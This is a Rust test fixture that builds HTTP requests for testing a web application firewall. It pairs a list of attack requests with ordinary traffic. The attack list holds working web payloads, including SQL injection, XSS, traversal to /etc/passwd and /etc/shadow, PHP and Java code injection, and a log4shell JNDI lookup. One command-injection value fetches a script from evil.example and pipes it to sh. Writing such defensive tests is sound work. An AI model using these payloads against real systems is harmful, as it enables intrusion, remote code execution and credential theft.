//! The requests the WAF tests send: one or more attacks of each OWASP family CRS covers,
//! and a benign corpus of ordinary traffic (prose full of "and", "or", quotes and dashes;
//! JSON APIs; form posts; a multipart upload; long query strings).
use bytes::Bytes;
use http_body_util::Full;

pub struct Case {
    pub name: &'static str,
    pub method: &'static str,
    pub target: &'static str,
    /// (content type, body)
    pub body: Option<(&'static str, &'static str)>,
    pub headers: &'static [(&'static str, &'static str)],
}

const fn get(name: &'static str, target: &'static str) -> Case {
    Case { name, method: "GET", target, body: None, headers: &[] }
}

const fn post(name: &'static str, target: &'static str, content_type: &'static str, body: &'static str) -> Case {
    Case { name, method: "POST", target, body: Some((content_type, body)), headers: &[] }
}

const FORM: &str = "application/x-www-form-urlencoded";
const JSON: &str = "application/json";
const MULTIPART: &str = "multipart/form-data; boundary=XyZ";

pub const ATTACKS: &[Case] = &[
    get("sqli: tautology", "/search?q=1%27%20OR%20%271%27%3D%271"),
    get("sqli: union select", "/item?id=1%20UNION%20SELECT%20username,password%20FROM%20users--"),
    post("sqli: in a form", "/login", FORM, "user=admin%27--&pass=x"),
    post("sqli: in JSON", "/api/items", JSON, r#"{"id":"1' OR '1'='1"}"#),
    get("xss: script tag", "/comment?text=%3Cscript%3Ealert(document.cookie)%3C/script%3E"),
    get("xss: event handler", "/profile?name=%3Cimg%20src%3Dx%20onerror%3Dalert(1)%3E"),
    post("xss: in JSON", "/api/comments", JSON, r#"{"body":"<svg onload=alert(1)>"}"#),
    get("lfi: traversal", "/download?file=../../../../etc/passwd"),
    get("lfi: encoded traversal", "/download?file=..%2f..%2f..%2fetc%2fshadow"),
    get("rfi: remote include", "/page?include=http://198.51.100.7/shell.txt?"),
    get("rce: command chaining", "/ping?host=127.0.0.1%3Bcat%20/etc/passwd"),
    get("rce: subshell", "/ping?host=%24(curl%20http://evil.example/x%7Csh)"),
    get("php: code injection", "/x?a=%3C%3Fphp%20system(%24_GET%5B%27c%27%5D)%3B%20%3F%3E"),
    get("php: wrapper", "/x?page=php://filter/convert.base64-encode/resource=index.php"),
    get(
        "session fixation: a cookie set for another domain",
        "/x?a=document.cookie%3D%22sid%3D1%3B%20domain%3D.example.com%22",
    ),
    get("java: class loading", "/x?c=java.lang.Runtime.getRuntime().exec(%22id%22)"),
    get("java: log4shell", "/x?q=%24%7Bjndi%3Aldap%3A%2F%2Fevil.example%2Fa%7D"),
    Case {
        name: "protocol: header injection in an argument",
        method: "GET",
        target: "/redirect?to=%0d%0aSet-Cookie%3A%20session%3Devil",
        body: None,
        headers: &[],
    },
    Case {
        name: "scanner user agent",
        method: "GET",
        target: "/",
        body: None,
        headers: &[("user-agent", "sqlmap/1.7.2#stable (https://sqlmap.org)")],
    },
    Case { name: "method enforcement", method: "PROPFIND", target: "/", body: None, headers: &[] },
];

pub const BENIGN: &[Case] = &[
    get("prose with and/or/quotes/dashes", "/search?q=Tom%20and%20Jerry%20or%20the%20cat%27s%20--%20best%20friend"),
    get("prose: a question", "/search?q=Is%20it%20%22now%20or%20never%22%20-%20or%20can%20we%20wait%3F"),
    get("prose: names with apostrophes", "/people?name=O%27Brien%20and%20D%27Angelo"),
    get("ten arguments", "/p?a=1&b=hello&c=world&d=foo&e=bar&f=42&g=true&h=x-y&i=z_z&j=done"),
    get(
        "a long query string",
        "/report?from=2026-01-01&to=2026-12-31&fields=name,email,created_at,updated_at,status,plan,seats,region&sort=-created_at&page=3&per_page=100&include=owner,billing&locale=en-GB&tz=Europe%2FLondon&utm_source=newsletter&utm_medium=email&utm_campaign=winter",
    ),
    get("a plain page", "/docs/getting-started/index.html"),
    post("form: a comment", "/comments", FORM, "author=Ann&comment=I+don%27t+think+so%2C+and+you%3F+Either+way+--+thanks%21&rating=4"),
    post("form: a login", "/login", FORM, "user=alice%40example.com&password=correct-horse-battery-staple&remember=on"),
    post("JSON: an order", "/api/orders", JSON, r#"{"customer":"O'Brien","items":[{"sku":"A-1","qty":2},{"sku":"B-7","qty":1}],"note":"select the best one, or not"}"#),
    post("JSON: a search", "/api/search", JSON, r#"{"query":"cats and dogs","filters":{"min_price":10,"max_price":99.5},"sort":"relevance"}"#),
    post(
        "multipart: an upload",
        "/upload",
        MULTIPART,
        "--XyZ\r\nContent-Disposition: form-data; name=\"title\"\r\n\r\nHoliday photos - summer and autumn\r\n--XyZ\r\nContent-Disposition: form-data; name=\"file\"; filename=\"beach.txt\"\r\nContent-Type: text/plain\r\n\r\nSand, sea and sun; nothing else.\r\n--XyZ--\r\n",
    ),
    Case { name: "JSON API: a GET", method: "GET", target: "/api/items/7?fields=name,price", body: None, headers: &[("accept", "application/json")] },
];

impl Case {
    /// The request, to `base` (`http://127.0.0.1:PORT`), for the virtual host `host`.
    pub fn request(&self, base: &str, host: &str) -> http::Request<Full<Bytes>> {
        let mut b = http::Request::builder()
            .method(self.method)
            .uri(format!("{base}{}", self.target))
            .header("host", host)
            .header("accept", "text/html,application/json;q=0.9,*/*;q=0.8")
            .header("accept-language", "en-GB,en;q=0.8");
        if !self.headers.iter().any(|(n, _)| *n == "user-agent") {
            b = b.header("user-agent", "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 Chrome/120 Safari/537.36");
        }
        for (name, value) in self.headers {
            b = b.header(*name, *value);
        }
        match self.body {
            Some((content_type, body)) => {
                b.header("content-type", content_type).body(Full::new(Bytes::from_static(body.as_bytes()))).unwrap()
            }
            None => b.body(Full::default()).unwrap(),
        }
    }
}
